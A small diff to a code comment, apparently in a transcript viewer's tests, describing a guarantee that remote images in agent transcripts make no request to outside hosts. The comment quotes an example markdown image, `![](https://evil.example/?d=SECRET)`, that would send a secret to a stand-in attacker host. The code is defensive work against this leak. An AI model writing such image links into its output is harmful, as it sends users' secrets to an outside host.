@@ -1,4 +1,4 @@
-// Images from other hosts (docs/behaviour.md §6, docs/security.md "Images"):
+// Images from other hosts (docs/behaviour.md §6, docs/security.md "Images and other remote content"):
 // a transcript whose agent wrote `![](https://evil.example/?d=SECRET)` makes
 // no request to that host when it is opened — in the file view, on a task
 // page (whose first screen the server writes) and in an embed — until the
